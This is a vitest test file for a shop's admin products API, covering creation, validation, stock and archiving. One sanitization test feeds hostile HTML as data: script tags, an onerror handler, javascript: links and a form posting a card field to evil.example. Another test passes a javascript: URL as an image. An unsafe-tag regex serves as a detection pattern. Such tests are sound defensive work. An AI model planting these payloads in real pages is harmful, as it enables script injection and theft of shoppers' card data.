import { AdminProductAnswer, CategoryProductListAnswer, ProductDetailAnswer } from '@kapaas/contract';
import { and, asc, eq, orderItems, productSizes, products, sizes, subcategories } from '@kapaas/db';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestShop, type TestShop } from '../../../test/shop';
import { checkoutFixtures } from '../checkout/checkout.fixtures';
import { type AdminClient, adminFixtures, expectStatus } from './admin.fixtures';
import { sanitizeRichText } from './rich-text';

let shop: TestShop;
const admin = adminFixtures(() => shop);
const checkout = checkoutFixtures(() => shop);
let owner: AdminClient;
let place: { categoryId: number; subcategoryId: number; otherSubcategoryId: number; sizeIds: number[] };

beforeAll(async () => {
  shop = await startTestShop();
  owner = await admin.owner();
  const db = shop.database.db;
  const subs = await db.select().from(subcategories).orderBy(asc(subcategories.id));
  const first = subs[0];
  const other = subs.find((s) => s.categoryId !== first?.categoryId);
  const sizeRows = await db.select().from(sizes).orderBy(asc(sizes.sortOrder)).limit(3);
  if (!first || !other || sizeRows.length < 3) throw new Error('the demo shop lacks subcategories or sizes');
  place = {
    categoryId: first.categoryId,
    subcategoryId: first.id,
    otherSubcategoryId: other.id,
    sizeIds: sizeRows.map((s) => s.id),
  };
});
afterAll(async () => {
  await shop.close();
});

const newProduct = (changes: Record<string, unknown> = {}) => ({
  name: `Organic Muslin Jhabla ${Math.random().toString(36).slice(2, 7)}`,
  category_id: place.categoryId,
  subcategory_id: place.subcategoryId,
  description: 'Soft, breathable muslin.',
  product_details: '100% organic cotton',
  wash_care: 'Machine wash cold',
  price: 899,
  discount_price: 749.5,
  sizes: [
    { size_id: place.sizeIds[0], stock: 5 },
    { size_id: place.sizeIds[1], stock: 0 },
  ],
  images: ['/media/uploads/abc-640.webp'],
  ...changes,
});

async function create(changes: Record<string, unknown> = {}) {
  return AdminProductAnswer.parse(expectStatus(await owner.post('/products', newProduct(changes)), 200)).data;
}

async function storefrontCards(categoryId = place.categoryId) {
  const response = await shop.post('category_product_list', { category_id: categoryId });
  return CategoryProductListAnswer.parse(expectStatus(response, 200)).product;
}

describe('products', () => {
  it('create → on the storefront at once, in rupees, with its sizes and image → update → delete', async () => {
    const product = await create();
    expect(product).toMatchObject({ price: 899, discount_price: 749.5, status: 'active' });
    expect(product.sizes.map((s) => [s.size_id, s.stock, s.reserved])).toEqual([
      [place.sizeIds[0], 5, 0],
      [place.sizeIds[1], 0, 0],
    ]);
    const card = (await storefrontCards()).find((c) => c.product_id === product.id);
    expect(card).toMatchObject({
      price: 899,
      discount_price: 749.5,
      product_image: '/media/uploads/abc-640.webp',
      in_stock: true,
    });
    const detail = ProductDetailAnswer.parse(
      expectStatus(await shop.post('product_detail', { product_id: product.id }), 200),
    );
    expect(detail.products.sizes.map((s) => [s.size_id, s.in_stock])).toEqual([
      [place.sizeIds[0], true],
      [place.sizeIds[1], false],
    ]);

    const changed = AdminProductAnswer.parse(
      expectStatus(
        await owner.patch(`/products/${product.id}`, {
          name: 'Renamed Jhabla',
          price: 999,
          discount_price: null,
          sizes: [{ size_id: place.sizeIds[0], stock: 0 }],
        }),
        200,
      ),
    ).data;
    expect(changed).toMatchObject({
      name: 'Renamed Jhabla',
      price: 999,
      discount_price: null,
      description: 'Soft, breathable muslin.',
    });
    const after = (await storefrontCards()).find((c) => c.product_id === product.id);
    expect(after).toMatchObject({ name: 'Renamed Jhabla', price: 999, discount_price: 0, in_stock: false });

    const audit = await admin.lastAudit(owner, 'products', product.id);
    expect(audit).toMatchObject({ action: 'update', admin_email: 'admin@kapaas.local' });
    expect(audit?.before).toMatchObject({ name: product.name, price: 899 });
    expect(audit?.after).toMatchObject({ name: 'Renamed Jhabla', price: 999 });

    const removed = expectStatus(await owner.delete(`/products/${product.id}`), 200);
    expect(removed.archived).toBe(false);
    expect((await storefrontCards()).some((c) => c.product_id === product.id)).toBe(false);
    expect((await owner.get(`/products/${product.id}`)).statusCode).toBe(404);
    expect((await admin.lastAudit(owner, 'products', product.id))?.action).toBe('delete');
  });

  it('stores description, details and wash care cleaned to the formatting tags, on create and on update', async () => {
    const hostile = [
      '<p>Soft <strong>muslin</strong></p>',
      '<script>alert(1)</script>',
      '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
      '<style>body { display: none }</style>',
      '<img src="x" onerror="alert(2)">',
      '<a href="javascript:alert(3)" onclick="alert(4)">care</a>',
    ].join('');
    const unsafe = /<script|<form|<input|<button|<style|<img|onerror|onclick|javascript:|alert/i;
    const expectClean = (text: string) => {
      expect(text).not.toMatch(unsafe);
      expect(text).toContain('<p>Soft <strong>muslin</strong></p>');
    };

    const created = await create({ description: hostile, product_details: hostile, wash_care: hostile });
    for (const text of [created.description, created.product_details, created.wash_care]) expectClean(text);
    const stored = (await shop.database.db.select().from(products).where(eq(products.id, created.id)))[0];
    for (const text of [stored?.description, stored?.productDetails, stored?.washCare]) expectClean(text ?? '');
    const detail = ProductDetailAnswer.parse(
      expectStatus(await shop.post('product_detail', { product_id: created.id }), 200),
    ).products;
    for (const text of [detail.description, detail.product_details, detail.wash_care]) expectClean(text);

    const fresh = await create();
    expectStatus(
      await owner.patch(`/products/${fresh.id}`, {
        description: hostile,
        product_details: hostile,
        wash_care: hostile,
      }),
      200,
    );
    const updated = (await shop.database.db.select().from(products).where(eq(products.id, fresh.id)))[0];
    for (const text of [updated?.description, updated?.productDetails, updated?.washCare]) expectClean(text ?? '');
  });

  it('answers the texts as the owner typed them, & < > included, and a second save changes nothing', async () => {
    const typed = {
      description: 'Tom & Jerry’s favourite — R&D, AT&T & M&S agree: 5 > 3 and 2 <3 "soft"\nSecond line & more',
      product_details: '<strong>Soft</strong> & warm\n100% cotton, 180–200 GSM; a < b',
      wash_care: 'Wash cold & dry in shade',
    };
    const created = await create(typed);
    expect({ ...created }).toMatchObject(typed);
    const loaded = AdminProductAnswer.parse(expectStatus(await owner.get(`/products/${created.id}`), 200)).data;
    expect(loaded).toMatchObject(typed);
    // The console sends back what its fields show: nothing changes, however often it is saved.
    const saved = expectStatus(await owner.patch(`/products/${created.id}`, typed), 200);
    expect(saved.data).toMatchObject(typed);
    // The shop's page reads the same text, as HTML.
    const detail = ProductDetailAnswer.parse(
      expectStatus(await shop.post('product_detail', { product_id: created.id }), 200),
    ).products;
    expect(detail.description).toBe(typed.description);
  });

  it('answers a text stored entity-escaped (before the fix) as typed too', async () => {
    const product = await create();
    await shop.database.db
      .update(products)
      .set({ description: 'Tom &amp; Jerry &lt;3 &gt; &amp;copy; &lt;b&gt;' })
      .where(eq(products.id, product.id));
    const loaded = AdminProductAnswer.parse(expectStatus(await owner.get(`/products/${product.id}`), 200)).data;
    // `&amp;copy;` and `&lt;b&gt;` were typed as entities (to show "&copy;" and "<b>"): they stay so.
    expect(loaded.description).toBe('Tom & Jerry <3 > &amp;copy; &lt;b&gt;');
    // Saved as the console shows it, it is stored so.
    expectStatus(await owner.patch(`/products/${product.id}`, { description: loaded.description }), 200);
    const [row] = await shop.database.db.select().from(products).where(eq(products.id, product.id));
    expect(row?.description).toBe(loaded.description);
  });

  it('leaves the demo shop’s texts as they are: they are already within the allow-list', async () => {
    const rows = await shop.database.db.select().from(products);
    expect(rows.length).toBeGreaterThan(10);
    const changed = rows
      .flatMap((row) => [row.description, row.productDetails, row.washCare])
      .filter((text) => sanitizeRichText(text) !== text);
    expect(changed).toEqual([]);
  });

  it('lists with search, filters and pages', async () => {
    const product = await create({ name: 'Zebra Striped Findable Romper' });
    const found = expectStatus(await owner.get('/products', { q: 'zebra striped findable' }), 200);
    expect(found.data.map((p: { id: number }) => p.id)).toEqual([product.id]);
    expect(found.total).toBe(1);
    const page = expectStatus(
      await owner.get('/products', { per_page: 2, page: 2, category_id: place.categoryId }),
      200,
    );
    expect(page).toMatchObject({ page: 2, per_page: 2 });
    expect(page.data.length).toBeLessThanOrEqual(2);
    expect(page.data.every((p: { category_id: number }) => p.category_id === place.categoryId)).toBe(true);
    const archived = expectStatus(await owner.get('/products', { status: 'archived' }), 200);
    expect(archived.data.every((p: { status: string }) => p.status === 'archived')).toBe(true);
    expect((await owner.get('/products', { per_page: 1000 })).statusCode).toBe(400);
    expect((await owner.get('/products', { colour: 'red' })).statusCode).toBe(400);
  });

  it('the low-stock filter lists the products with a size that has at most that many pieces free', async () => {
    const name = `Lowstock ${Math.random().toString(36).slice(2, 9)}`;
    const low = await create({ name: `${name} Low` });
    const stocked = await create({
      name: `${name} Stocked`,
      sizes: [
        { size_id: place.sizeIds[0], stock: 9 },
        { size_id: place.sizeIds[1], stock: 7 },
      ],
    });
    const ids = async (lowStock: number) =>
      expectStatus(await owner.get('/products', { q: name, low_stock: lowStock }), 200)
        .data.map((p: { id: number }) => p.id)
        .sort((a: number, b: number) => a - b);
    expect(await ids(3)).toEqual([low.id]);
    expect(await ids(7)).toEqual([low.id, stocked.id].sort((a, b) => a - b));
  });

  it('refuses invalid products with 400 and the errors per field', async () => {
    const missing = expectStatus(await owner.post('/products', { name: '' }), 400);
    expect(Object.keys(missing.errors)).toEqual(
      expect.arrayContaining(['name', 'category_id', 'subcategory_id', 'price']),
    );
    const rules = expectStatus(
      await owner.post(
        '/products',
        newProduct({
          discount_price: 899,
          subcategory_id: place.otherSubcategoryId,
          sizes: [{ size_id: 999_999, stock: 1 }],
        }),
      ),
      400,
    );
    expect(Object.keys(rules.errors).sort()).toEqual(['discount_price', 'sizes', 'subcategory_id']);
    const negative = expectStatus(
      await owner.post('/products', newProduct({ sizes: [{ size_id: place.sizeIds[0], stock: -1 }] })),
      400,
    );
    expect(negative.errors['sizes.0.stock']).toBeDefined();
    const script = expectStatus(await owner.post('/products', newProduct({ images: ['javascript:alert(1)'] })), 400);
    expect(script.errors['images.0']).toBeDefined();
    expect((await owner.post('/products', newProduct({ price: 10.005 }))).statusCode).toBe(400);
    expect((await owner.patch('/products/999999', { name: 'Nobody' })).statusCode).toBe(404);
  });

  it('keeps a weight in grams per piece: none takes the shop default, 1 to 30000 g, refused beside the field', async () => {
    const unweighed = await create();
    expect(unweighed.weight_grams).toBeNull();
    const weighed = await create({ weight_grams: 110 });
    expect(weighed.weight_grams).toBe(110);
    const changed = AdminProductAnswer.parse(
      expectStatus(await owner.patch(`/products/${weighed.id}`, { weight_grams: 145 }), 200),
    ).data;
    expect(changed.weight_grams).toBe(145);
    const cleared = expectStatus(await owner.patch(`/products/${weighed.id}`, { weight_grams: null }), 200);
    expect(cleared.data.weight_grams).toBeNull();
    for (const bad of [0, -5, 30_001, 12.5]) {
      const refused = expectStatus(await owner.post('/products', newProduct({ weight_grams: bad })), 400);
      expect(Object.keys(refused.errors)).toEqual(['weight_grams']);
      expect(
        expectStatus(await owner.patch(`/products/${weighed.id}`, { weight_grams: bad }), 400).errors.weight_grams,
      ).toBeDefined();
    }
    const [row] = await shop.database.db.select().from(products).where(eq(products.id, weighed.id));
    expect(row?.weightGrams).toBeNull();
  });

  it('keeps an SEO title and description, a vendor and tags; the storefront gets the SEO ones; bad values refused beside the field', async () => {
    const plain = await create();
    expect(plain).toMatchObject({ seo_title: null, seo_description: null, vendor: null, tags: [] });
    const product = await create({
      seo_title: '  Haldi Jhabla for newborns  ',
      seo_description: 'A soft muslin jhabla, dyed with turmeric.',
      vendor: 'Kapaas Studio',
      tags: [' Summer ', 'muslin', 'summer'],
    });
    // Trimmed; a tag given twice (ignoring case) kept once, in the order given.
    expect(product).toMatchObject({
      seo_title: 'Haldi Jhabla for newborns',
      seo_description: 'A soft muslin jhabla, dyed with turmeric.',
      vendor: 'Kapaas Studio',
      tags: ['Summer', 'muslin'],
    });
    const shown = ProductDetailAnswer.parse(
      expectStatus(await shop.post('product_detail', { product_id: product.id }), 200),
    ).products;
    expect(shown).toMatchObject({
      seo_title: 'Haldi Jhabla for newborns',
      seo_description: 'A soft muslin jhabla, dyed with turmeric.',
    });
    // Emptied: none again (null), tags replaced.
    const cleared = AdminProductAnswer.parse(
      expectStatus(
        await owner.patch(`/products/${product.id}`, { seo_title: '', seo_description: null, vendor: ' ', tags: [] }),
        200,
      ),
    ).data;
    expect(cleared).toMatchObject({ seo_title: null, seo_description: null, vendor: null, tags: [] });
    const refusals: [Record<string, unknown>, string][] = [
      [{ seo_title: 'x'.repeat(71) }, 'seo_title'],
      [{ seo_description: 'x'.repeat(321) }, 'seo_description'],
      [{ vendor: 'x'.repeat(101) }, 'vendor'],
      [{ tags: ['ok', 'x'.repeat(41)] }, 'tags.1'],
      [{ tags: ['cotton, summer'] }, 'tags.0'],
      [{ tags: ['ok', ''] }, 'tags.1'],
      [{ tags: Array.from({ length: 51 }, (_, at) => `t${at}`) }, 'tags'],
    ];
    for (const [body, field] of refusals) {
      expect(Object.keys(expectStatus(await owner.post('/products', newProduct(body)), 400).errors), field).toEqual([
        field,
      ]);
      expect(expectStatus(await owner.patch(`/products/${product.id}`, body), 400).errors[field], field).toBeDefined();
    }
    const [row] = await shop.database.db.select().from(products).where(eq(products.id, product.id));
    expect(row).toMatchObject({ seoTitle: null, seoDescription: null, vendor: null, tags: [] });
  });

  it('refuses a stock edit below what unpaid orders hold (409) and changes nothing', async () => {
    const product = await create({
      sizes: [
        { size_id: place.sizeIds[0], stock: 5 },
        { size_id: place.sizeIds[1], stock: 4 },
      ],
    });
    await shop.database.db
      .update(productSizes)
      .set({ reserved: 3 })
      .where(and(eq(productSizes.productId, product.id), eq(productSizes.sizeId, place.sizeIds[0] as number)));
    const refused = expectStatus(
      await owner.patch(`/products/${product.id}`, {
        name: 'Should not stick',
        sizes: [
          { size_id: place.sizeIds[1], stock: 9 },
          { size_id: place.sizeIds[0], stock: 2 },
        ],
      }),
      409,
    );
    expect(refused.code).toBe('STOCK_BELOW_RESERVED');
    const unchanged = AdminProductAnswer.parse(expectStatus(await owner.get(`/products/${product.id}`), 200)).data;
    expect(unchanged.name).toBe(product.name);
    expect(unchanged.sizes.map((s) => [s.size_id, s.stock, s.reserved])).toEqual([
      [place.sizeIds[0], 5, 3],
      [place.sizeIds[1], 4, 0],
    ]);
    const exact = AdminProductAnswer.parse(
      expectStatus(
        await owner.patch(`/products/${product.id}`, { sizes: [{ size_id: place.sizeIds[0], stock: 3 }] }),
        200,
      ),
    ).data;
    expect(exact.sizes[0]).toMatchObject({ stock: 3, reserved: 3, available: 0 });
    const added = AdminProductAnswer.parse(
      expectStatus(
        await owner.patch(`/products/${product.id}`, { sizes: [{ size_id: place.sizeIds[2], stock: 7 }] }),
        200,
      ),
    ).data;
    expect(added.sizes.map((s) => s.size_id)).toEqual(place.sizeIds);
  });

  it('archives a product that has orders: it leaves the storefront and its orders still show it', async () => {
    const item = await checkout.stockedItem(5);
    const { shopper, addressId } = await checkout.readyGuest(item, 1);
    const order = await checkout.placed(shopper, addressId, item, 1);
    const [product] = await shop.database.db.select().from(products).where(eq(products.id, item.productId));
    if (!product) throw new Error('no product');

    const removed = expectStatus(await owner.delete(`/products/${item.productId}`), 200);
    expect(removed.archived).toBe(true);
    expect(expectStatus(await owner.get(`/products/${item.productId}`), 200).data.status).toBe('archived');
    expect((await storefrontCards(product.categoryId)).some((c) => c.product_id === item.productId)).toBe(false);
    expect((await shop.post('product_detail', { product_id: item.productId })).statusCode).toBe(404);
    const lines = await shop.database.db.select().from(orderItems).where(eq(orderItems.orderId, order.order_id));
    expect(lines.map((l) => l.productId)).toEqual([item.productId]);
    const details = expectStatus(await shopper.post('order_details', { order_id: order.order_id }), 200);
    expect(details.data.description[0].product_name).toBe(product.name);
    expect((await admin.lastAudit(owner, 'products', item.productId))?.action).toBe('archive');

    expectStatus(await owner.patch(`/products/${item.productId}`, { status: 'active' }), 200);
    expect((await storefrontCards(product.categoryId)).some((c) => c.product_id === item.productId)).toBe(true);
  });

  it('requires a token and lets staff manage products', async () => {
    const anonymous = admin.client();
    expect((await anonymous.get('/products')).statusCode).toBe(401);
    expect((await anonymous.post('/products', newProduct())).statusCode).toBe(401);
    expect((await anonymous.patch('/products/1', { name: 'x' })).statusCode).toBe(401);
    expect((await anonymous.delete('/products/1')).statusCode).toBe(401);
    const staff = await admin.staff(owner);
    expectStatus(await staff.post('/products', newProduct()), 200);
  });
});
